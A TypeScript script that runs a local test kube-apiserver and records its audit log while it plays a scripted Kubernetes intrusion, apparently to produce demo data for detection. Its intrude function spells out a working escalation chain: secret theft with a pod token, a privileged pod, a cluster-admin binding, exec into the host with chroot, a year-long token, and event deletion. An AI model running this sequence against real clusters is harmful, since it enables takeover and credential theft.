/** Records demo/recordings/kubernetes-audit.ndjson: the story played against a real kube-apiserver, its audit log kept. */
import { readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { type KubernetesUser, startKubeApiserver } from '../../test/services/kube-apiserver.ts';
import { buildImage } from './image.ts';
import { createKubeClient, type KubeCall, type KubeRequest } from './kube-client.ts';
import { startKubelet } from './kubelet.ts';
import {
  describeAdminBinding,
  describeDeployment,
  describeEvent,
  describeNamespace,
  describeNode,
  describePod,
  describePrivilegedPod,
  describeRole,
  describeSecret,
} from './kubernetes-objects.ts';
import { imageName, story } from './story.ts';

const { namespace, pod } = story;
const target = join(import.meta.dirname, '..', 'recordings', 'kubernetes-audit.ndjson');

/** Bodies for what changes rights and workloads, none for secrets, names only for reading. */
const auditPolicy = `apiVersion: audit.k8s.io/v1
kind: Policy
omitStages: [RequestReceived]
rules:
  - level: None
    users: ['system:apiserver', 'picket-admin']
  - level: Metadata
    resources: [{ group: '', resources: [secrets, configmaps, serviceaccounts/token] }]
  - level: RequestResponse
    verbs: [create, update, patch, delete, deletecollection]
    resources:
      - { group: '', resources: [pods, pods/exec, pods/attach, serviceaccounts, namespaces] }
      - { group: apps, resources: [deployments, daemonsets] }
      - { group: rbac.authorization.k8s.io }
  - level: Metadata
`;

const deployer = { name: 'ci-deployer', token: 'ci', groups: ['deployers', 'system:authenticated'] };
const controller = { name: 'system:kube-controller-manager', token: 'kcm', groups: ['system:authenticated'] };
const kubelet = {
  name: `system:node:${story.node}`,
  token: 'node',
  groups: ['system:nodes', 'system:authenticated'],
};
const prometheus = { name: 'prometheus', token: 'prom', groups: ['monitoring', 'system:authenticated'] };
const operator = { name: 'marie.durand', token: 'marie', groups: ['line-operators', 'system:authenticated'] };
const users: readonly KubernetesUser[] = [deployer, controller, kubelet, prometheus, operator];

const agents = {
  deploy: 'argocd-application-controller/v2.13.2',
  controller: 'kube-controller-manager/v1.34.2 (linux/amd64) kubernetes/8cc511e/leader-election',
  kubelet: 'kubelet/v1.34.2 (linux/amd64) kubernetes/8cc511e',
  prometheus: 'Prometheus/3.5.0',
  kubectl: 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9',
  curl: 'curl/7.74.0',
};

/** Where each speaks from: the API server stands behind a load balancer that adds X-Forwarded-For. */
const addresses: Record<string, string> = {
  [agents.deploy]: '10.20.0.5',
  [agents.controller]: '10.20.1.10',
  [agents.kubelet]: '10.20.1.11',
  [agents.prometheus]: '10.20.1.30',
  [agents.kubectl]: '10.20.0.21',
  [agents.curl]: story.podAddress,
};

type Say = (asked: Omit<KubeRequest, 'token' | 'userAgent'>) => ReturnType<KubeCall>;

function speakAs(call: KubeCall, token: string | undefined, userAgent: string): Say {
  const forwarded = { 'x-forwarded-for': addresses[userAgent] ?? '10.20.0.1' };
  return (asked) =>
    call({
      ...asked,
      ...(token === undefined ? {} : { token }),
      userAgent,
      headers: { ...forwarded, ...asked.headers },
    });
}

const wide = {
  apiGroups: ['', 'apps', 'coordination.k8s.io', 'rbac.authorization.k8s.io'],
  resources: ['*'],
};

/** Gives the people of the story the rights that they have before it begins; this is not recorded. */
async function prepare(admin: Say, kubeletPort: number): Promise<void> {
  const grants: [string, readonly object[], object][] = [
    ['deployers', [{ ...wide, verbs: ['*'] }], { kind: 'Group', name: 'deployers' }],
    ['controllers', [{ ...wide, verbs: ['*'] }], { kind: 'User', name: controller.name }],
    [
      'nodes',
      [{ ...wide, verbs: ['get', 'list', 'watch', 'create', 'update', 'patch'] }],
      { kind: 'User', name: kubelet.name },
    ],
    [
      'monitoring',
      [
        {
          apiGroups: [''],
          resources: ['pods', 'nodes', 'services', 'endpoints'],
          verbs: ['get', 'list', 'watch'],
        },
      ],
      { kind: 'Group', name: 'monitoring' },
    ],
    [
      'operators',
      [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] }],
      { kind: 'Group', name: 'line-operators' },
    ],
  ];
  for (const [name, rules, subject] of grants) {
    const described = describeRole({ namespace: 'default', name: `factory-${name}`, rules, subject });
    const kinds = { role: 'clusterroles', binding: 'clusterrolebindings' } as const;
    for (const part of ['role', 'binding'] as const) {
      const body = JSON.parse(
        JSON.stringify(described[part])
          .replaceAll('"kind":"Role"', '"kind":"ClusterRole"')
          .replaceAll('"RoleBinding"', '"ClusterRoleBinding"')
          .replaceAll('"namespace":"default"', '"annotations":{}'),
      ) as object;
      const answer = await admin({
        method: 'POST',
        path: `/apis/rbac.authorization.k8s.io/v1/${kinds[part]}`,
        body,
      });
      if (answer.status !== 201) throw new Error(`${name}: ${JSON.stringify(answer)}`);
    }
  }
  const node = describeNode(kubeletPort);
  await admin({ method: 'POST', path: '/api/v1/nodes', body: node });
  await admin({ method: 'PUT', path: `/api/v1/nodes/${story.node}/status`, body: node });
  await admin({ method: 'POST', path: '/api/v1/namespaces', body: describeNamespace('monitoring') });
  await admin({
    method: 'POST',
    path: '/api/v1/namespaces/monitoring/configmaps',
    body: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scrape' }, data: { interval: '15s' } },
  });
  await admin({
    method: 'POST',
    path: '/api/v1/namespaces/monitoring/secrets',
    body: describeSecret({ namespace: 'monitoring', name: 'remote-write', data: { token: 'not-recorded' } }),
  });
  await admin({
    method: 'POST',
    path: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases',
    body: {
      apiVersion: 'coordination.k8s.io/v1',
      kind: 'Lease',
      metadata: { name: 'kube-controller-manager' },
      spec: { holderIdentity: story.node, leaseDurationSeconds: 15 },
    },
  });
}

/** One round of what a quiet cluster says all day: leases, node status, discovery, lists. */
async function hum(call: KubeCall, round: number): Promise<void> {
  const node = speakAs(call, kubelet.token, agents.kubelet);
  const manager = speakAs(call, controller.token, agents.controller);
  const scrape = speakAs(call, prometheus.token, agents.prometheus);
  const lease = '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases';
  await manager({ method: 'GET', path: `${lease}/kube-controller-manager?timeout=5s` });
  await node({ method: 'GET', path: `/api/v1/nodes/${story.node}?resourceVersion=0&timeout=10s` });
  await scrape({ method: 'GET', path: '/api/v1/pods?limit=500&resourceVersion=0' });
  await scrape({ method: 'GET', path: '/api/v1/endpoints?limit=500&resourceVersion=0' });
  if (round % 2 === 0) await manager({ method: 'GET', path: '/apis/apps/v1/deployments?limit=500' });
  if (round % 3 === 0) await node({ method: 'GET', path: '/api/v1/namespaces/monitoring/configmaps/scrape' });
  if (round % 4 === 0)
    await manager({ method: 'GET', path: '/api/v1/namespaces/monitoring/secrets/remote-write' });
  if (round % 5 === 0) {
    await speakAs(
      call,
      operator.token,
      agents.kubectl,
    )({ method: 'GET', path: '/api/v1/namespaces/monitoring/pods?limit=500' });
  }
}

/** ci-deployer rolls out three lines, the third with the vulnerable image; gives the token that its pod was given. */
async function deploy(call: KubeCall, vulnerableImage: string): Promise<string> {
  const ci = speakAs(call, deployer.token, agents.deploy);
  const manager = speakAs(call, controller.token, agents.controller);
  const node = speakAs(call, kubelet.token, agents.kubelet);
  for (const name of ['line-1', 'line-2', namespace]) {
    await ci({ method: 'POST', path: '/api/v1/namespaces', body: describeNamespace(name) });
    await ci({
      method: 'POST',
      path: `/api/v1/namespaces/${name}/secrets`,
      body: describeSecret({ namespace: name, name: 'registry-pull', data: { token: 'not-recorded' } }),
    });
    for (const app of ['telemetry-agent', 'recipe-store']) {
      const image = `${story.image.registry}/${app}:2.0.3`;
      await ci({
        method: 'POST',
        path: `/apis/apps/v1/namespaces/${name}/deployments`,
        body: describeDeployment({ namespace: name, name: app, image }),
      });
      await hum(call, 1);
    }
  }
  const password = { username: story.windowsAccount, password: 'not-recorded' };
  await ci({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/secrets`,
    body: describeSecret({ namespace, name: story.secret, data: password }),
  });
  await ci({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/secrets`,
    body: describeSecret({ namespace, name: 'ci-deployer-token', data: { token: 'not-recorded' } }),
  });
  await ci({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/serviceaccounts`,
    body: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: story.serviceAccount } },
  });
  const rights = describeRole({
    namespace,
    name: 'hmi-gateway',
    // The mistake that the intruder lives on: the gateway may read secrets and make pods and bindings.
    rules: [
      {
        apiGroups: [''],
        resources: ['secrets', 'pods', 'pods/exec', 'serviceaccounts/token', 'events'],
        verbs: ['*'],
      },
    ],
    subject: { kind: 'ServiceAccount', name: story.serviceAccount, namespace },
  });
  const roles = `/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}`;
  await ci({ method: 'POST', path: `${roles}/roles`, body: rights.role });
  await ci({ method: 'POST', path: `${roles}/rolebindings`, body: rights.binding });
  await ci({
    method: 'POST',
    path: `/apis/apps/v1/namespaces/${namespace}/deployments`,
    body: describeDeployment({ namespace, name: story.deployment, image: vulnerableImage }),
  });
  const path = `/api/v1/namespaces/${namespace}/pods`;
  const made = await manager({ method: 'POST', path, body: describePod(vulnerableImage) });
  const { uid } = (made.body as { metadata: { uid: string } }).metadata;
  for (const [index, reason] of ['Pulling', 'Pulled', 'Created', 'Started'].entries()) {
    const body = describeEvent({
      name: `${pod}.17a${index}`,
      pod,
      reason,
      message: `${reason} container image "${imageName}"`,
      at: new Date(),
    });
    await node({ method: 'POST', path: `/api/v1/namespaces/${namespace}/events`, body });
  }
  const issued = await node({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/serviceaccounts/${story.serviceAccount}/token`,
    body: {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { expirationSeconds: 3607, boundObjectRef: { kind: 'Pod', apiVersion: 'v1', name: pod, uid } },
    },
  });
  return (issued.body as { status: { token: string } }).status.token;
}

/** What the intruder does with the pod's own token, then with the administrator's right that it gives itself. */
async function intrude(call: KubeCall, token: string): Promise<void> {
  const anonymous = speakAs(call, undefined, agents.curl);
  await anonymous({ method: 'GET', path: '/api/v1/namespaces' });
  await anonymous({ method: 'GET', path: `/api/v1/namespaces/${namespace}/secrets` });
  const inside = speakAs(call, token, agents.curl);
  const secrets = `/api/v1/namespaces/${namespace}/secrets`;
  await inside({
    method: 'POST',
    path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    body: { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace } },
  });
  await inside({ method: 'GET', path: '/api/v1/secrets' });
  await inside({ method: 'GET', path: '/api/v1/nodes' });
  await inside({ method: 'GET', path: secrets });
  await inside({ method: 'GET', path: `${secrets}/registry-pull` });
  await inside({ method: 'GET', path: `${secrets}/ci-deployer-token` });
  await inside({ method: 'GET', path: `${secrets}/${story.secret}` });
  await hum(call, 2);
  await inside({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/pods`,
    body: describePrivilegedPod(),
  });
  // The gateway's own role does not reach that far; the deployer's token, read from the secret, does.
  const stolen = speakAs(call, deployer.token, agents.curl);
  const bindings = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings';
  await inside({ method: 'POST', path: bindings, body: describeAdminBinding() });
  await stolen({ method: 'POST', path: bindings, body: describeAdminBinding() });
  // kubectl speaks WebSocket since 1.31 (verb get), older ones SPDY (verb create); the audit log knows both.
  const websocket = {
    connection: 'Upgrade',
    upgrade: 'websocket',
    'sec-websocket-version': '13',
    'sec-websocket-key': 'cGlja2V0LXJlY29yZGluZw==',
    'sec-websocket-protocol': 'v5.channel.k8s.io',
  };
  const spdy = {
    connection: 'Upgrade',
    upgrade: 'SPDY/3.1',
    'x-stream-protocol-version': 'v4.channel.k8s.io',
  };
  for (const { name, command, method, headers } of [
    { name: pod, command: ['/bin/sh', '-c', 'id; env'], method: 'POST', headers: spdy },
    { name: 'node-debug', command: ['chroot', '/host', '/bin/bash'], method: 'GET', headers: websocket },
  ] as const) {
    const query = command.map((word) => `command=${encodeURIComponent(word)}`).join('&');
    const path = `/api/v1/namespaces/${namespace}/pods/${name}/exec?${query}&stdin=true&stdout=true&tty=true`;
    await inside({ method, path, headers });
    await sleep(500);
  }
  await hum(call, 3);
  await inside({ method: 'GET', path: '/api/v1/secrets?limit=500' });
  await inside({ method: 'GET', path: '/api/v1/namespaces/kube-system/secrets' });
  await inside({ method: 'GET', path: '/api/v1/namespaces/kube-system/configmaps' });
  await inside({
    method: 'POST',
    path: '/api/v1/namespaces/kube-system/serviceaccounts',
    body: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'metrics-reader' } },
  });
  await inside({
    method: 'POST',
    path: '/api/v1/namespaces/kube-system/serviceaccounts/metrics-reader/token',
    body: {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { expirationSeconds: 31_536_000 },
    },
  });
  const events = `/api/v1/namespaces/${namespace}/events`;
  await inside({ method: 'DELETE', path: `${events}/${pod}.17a3` });
  await inside({ method: 'DELETE', path: events });
  await inside({
    method: 'DELETE',
    path: `/api/v1/namespaces/${namespace}/pods/node-debug?gracePeriodSeconds=0`,
  });
}

/** Plays the story in about twenty seconds and keeps the audit log, byte for byte. */
export async function recordKubernetesAudit(): Promise<void> {
  const server = await startKubeApiserver({ users, auditPolicy });
  const stops = [server.stop];
  try {
    const ca = await readFile(server.caFile, 'utf8');
    const key = await readFile(join(dirname(server.caFile), 'tls.key'), 'utf8');
    const call = createKubeClient({ url: server.url, ca });
    const kubeletServer = await startKubelet({ cert: ca, key });
    stops.push(kubeletServer.stop);
    await prepare(speakAs(call, server.token, agents.kubectl), kubeletServer.port);
    for (let round = 0; round < 8; round++) {
      await hum(call, round);
      await sleep(250);
    }
    const token = await deploy(call, `${imageName}@${buildImage().digest}`);
    for (let round = 8; round < 18; round++) {
      await hum(call, round);
      await sleep(250);
    }
    await intrude(call, token);
    for (let round = 18; round < 26; round++) {
      await hum(call, round);
      await sleep(250);
    }
    await sleep(1_000);
    await writeFile(target, await readFile(server.auditLogPath));
  } finally {
    for (const stop of stops.reverse()) await stop();
  }
}

if (import.meta.main) await recordKubernetesAudit();
